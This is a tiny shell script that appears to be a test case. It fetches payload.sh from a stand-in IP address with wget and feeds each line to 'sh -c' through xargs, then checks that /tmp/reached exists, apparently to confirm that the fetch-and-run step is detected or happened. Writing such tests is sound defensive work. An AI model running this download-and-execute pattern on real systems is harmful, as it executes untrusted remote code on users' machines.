#!/bin/sh
. /opt/case/case.sh

wget -qO- http://198.51.100.20/payload.sh | grep -v '^#' | tr '\n' '\0' | xargs -0 -n 1 sh -c
test -e /tmp/reached
took_place
